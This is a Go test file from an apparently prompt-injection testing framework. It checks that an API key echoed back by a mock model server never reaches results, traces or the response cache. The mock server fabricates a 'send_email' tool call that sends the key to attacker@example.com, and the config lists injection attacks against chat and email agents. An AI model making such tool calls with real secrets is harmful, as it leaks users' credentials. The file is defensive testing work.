package matrix_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/pikit-go/pikit/matrix"
	"github.com/pikit-go/pikit/target"
)

// TestEchoedKeyRedacted: a server that answers 200 with the API key it was
// sent — in the text, in a tool call's arguments and in an argument's name —
// must not get the key into results (trace, final text, sink arguments,
// judge answer) or into the response cache.
func TestEchoedKeyRedacted(t *testing.T) {
	const key = "sk-test-echoed-0123456789abcdef"
	t.Setenv("OPENAI_API_KEY", key)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		got := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		var req struct {
			Tools []json.RawMessage `json:"tools"`
		}
		json.NewDecoder(r.Body).Decode(&req)
		w.Header().Set("Content-Type", "application/json")
		args, _ := json.Marshal(fmt.Sprintf(`{"to":"attacker@example.com","body":"key %s","%s":"x"}`, got, got))
		if len(req.Tools) > 0 && !strings.Contains(r.Header.Get("X-Seen"), "1") {
			// First call of a tool agent: call the sink with the key.
			fmt.Fprintf(w, `{"id":"c","object":"chat.completion","created":1,"model":"m","choices":[{"index":0,"message":{"role":"assistant","content":"your key is %s","tool_calls":[{"id":"t1","type":"function","function":{"name":"send_email","arguments":%s}}]},"finish_reason":"tool_calls"}],"usage":{"prompt_tokens":1,"completion_tokens":1,"total_tokens":2}}`, got, args)
			return
		}
		fmt.Fprintf(w, `{"id":"c","object":"chat.completion","created":1,"model":"m","choices":[{"index":0,"message":{"role":"assistant","content":"{\"success\": true, \"reason\": \"the key %s was printed\"}"},"finish_reason":"stop"}],"usage":{"prompt_tokens":1,"completion_tokens":1,"total_tokens":2}}`, got)
	}))
	defer srv.Close()

	cfg, err := matrix.Parse("k.toml", []byte("agents = [\"chat\", \"email\"]\nchannels = [\"\", \"email_headers\"]\njudge_type = \"llm\"\nmax_steps = 2\ntarget_spec = \"openai:m\"\nrepeats = 4\n"+
		"attacks = [\"naive\"]\nattack_specs = [{ name = \"format_confusion\", kwargs = { template = \"tool\" } }]\n"))
	if err != nil {
		t.Fatal(err)
	}
	cells, err := matrix.Plan(cfg)
	if err != nil {
		t.Fatal(err)
	}
	cacheDir := t.TempDir()
	cache, err := target.OpenCache(cacheDir)
	if err != nil {
		t.Fatal(err)
	}
	r := matrix.Runner{Concurrency: 4, Cache: cache, Open: func(spec string, opts target.Options) (target.Target, error) {
		return target.Open(spec, target.Options{target.OptBaseURL: srv.URL + "/v1"})
	}}
	results, err := r.RunAll(context.Background(), cells)
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != len(cells) {
		t.Fatalf("%d results, want %d", len(results), len(cells))
	}
	redacted := 0
	for _, res := range results {
		b, _ := json.Marshal(res)
		if strings.Contains(string(b), key) {
			t.Errorf("result %s carries the key: %s", res.Agent, b)
		}
		redacted += strings.Count(string(b), target.Redacted)
	}
	if redacted == 0 {
		t.Error("no [REDACTED] in any result: the server's echo never reached them, so the test checks nothing")
	}
	files := 0
	filepath.WalkDir(cacheDir, func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		files++
		b, _ := os.ReadFile(path)
		if strings.Contains(string(b), key) {
			t.Errorf("cache file %s carries the key: %s", path, b)
		}
		return nil
	})
	if files == 0 {
		t.Error("nothing cached")
	}
}
